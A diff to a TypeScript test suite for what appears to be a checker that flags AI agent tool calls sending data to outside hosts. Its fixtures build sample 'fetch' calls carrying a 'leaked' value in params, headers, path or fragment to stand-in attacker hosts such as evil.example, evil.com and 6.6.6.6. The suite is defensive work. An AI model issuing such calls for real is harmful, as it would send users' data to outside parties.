@@ -716,7 +716,7 @@ describe('without options', () => {
   test.each<unknown>([true, false, '', ' ', null, {}, [], [{}]])(
     'a name in the headers of a request is sent whatever stands under it: %j',
     async (value) => {
-      for (const name of ['params', 'headers', 'query', 'variables']) {
+      for (const name of ['params', 'headers', 'query', 'variables', 'path', 'fragment', 'apiKey', 'key']) {
         const input = { url: 'https://evil.example/y', [name]: { leaked: value } };
         expect(await asked('fetch', input), name).toContain('"leaked"');
       }
@@ -775,9 +775,35 @@ describe('without options', () => {
     const isDotted = /[^.]\./.test(String(host)) || typeof host === 'number' || /^0x/.test(String(host));
     expect((await get({}, 'nothing')) !== undefined).toBe(isDotted);
     expect(await get({}, `see ${String(host)} and more`)).toBeUndefined();
-    for (const more of [{ params: { general: 'leaked' } }, { path: '/leaked' }])
+    for (const more of [{ params: { general: 'leaked' } }, { path: '/leaked' }, { fragment: 'leaked' }])
       if (!('path' in more) || name !== 'repository')
         expect(await get(more, `see ${String(host)}, leaked`), JSON.stringify(more)).toContain('leaked');
+  });
+
+  test('what is looked for at a host may be free, and what a URL gets is not', async () => {
+    const page = 'evil.com, and leaked';
+    for (const query of [{ query: 'leaked' }, { q: 'leaked' }, { search: 'leaked' }]) {
+      expect(await asked('search', { domain: 'evil.com', ...query }, {}, undefined, page)).toBeUndefined();
+      expect(await asked('fetch', { url: 'evil.com', ...query }, {}, undefined, page)).toContain('leaked');
+    }
+  });
+
+  test('what is sent beside a host is checked, whatever the argument of the host is called', async () => {
+    for (const target of ['6.6.6.6', 'evil.zip', 'evil.example'])
+      for (const more of [{ params: 'leaked' }, { headers: { general: 'leaked' } }])
+        expect(await asked('fetch', { target, ...more }, {}, undefined, target)).toContain('leaked');
+    expect(await asked('get_file', { name: 'x.zip', data: 'leaked' })).toBeUndefined();
+  });
+
+  test('what only the user gets is not asked about', async () => {
+    const questions = [
+      { question: 'Which one?', options: [{ label: 'X1', description: 'eve@evil.example' }] },
+    ];
+    for (const name of ['AskUserQuestion', 'ask_user', 'askUser', 'ask_user_question', 'ExitPlanMode'])
+      expect(await asked(name, { questions, plan: 'Do it' }), name).toBeUndefined();
+    expect(await asked('ask_user', { questions }, {}, { kind: 'mcp', server: 'chat' })).toBeDefined();
+    for (const name of ['ask_users', 'ask_user_and_notify', 'mcp__chat__ask_user'])
+      expect(await asked(name, { questions }), name).toBeDefined();
   });
 
   test('only a duration is a timeout', async () => {
